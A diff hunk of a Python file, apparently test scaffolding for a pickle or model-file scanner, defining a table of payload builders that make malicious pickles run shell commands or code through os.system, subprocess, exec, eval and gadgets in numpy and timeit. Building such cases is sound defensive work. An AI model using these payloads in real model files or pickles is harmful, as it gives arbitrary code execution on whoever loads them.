@@ -29,11 +29,11 @@ PICKLES: dict[str, Callable[[str, str], bytes]] = {
     "os.system, protocol 0": lambda _, shell: pickle.dumps(_Reduced(os.system, shell), 0),
     "INST": lambda _, shell: f"(V{shell}\nios\nsystem\n.".encode(),
     "OBJ": lambda _, shell: f"(cos\nsystem\nV{shell}\no.".encode(),
-    "NEWOBJ": lambda _, shell: (
-        b"\x80\x02csubprocess\nPopen\n(V/bin/sh\nV-c\n" + f"V{shell}\nl\x85\x81.".encode()
+    "STACK_GLOBAL": lambda code, _: (
+        b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93" + pickle.dumps(code, 2)[2:-1] + b"\x85R."
     ),
     "numpy's evaluation": lambda code, _: _by_names("numpy.f2py.crackfortran", "myeval", code),
-    "torch's evaluation": lambda code, _: _by_names("torch.fx.node", "eval", code),
+    "timeit": lambda code, _: _by_names("timeit", "timeit", code),
     "within tensors": lambda code, _: pickle.dumps({"weight": [_Reduced(eval, code)]}, 2),
     "getattr": lambda code, _: pickle.dumps(
         {
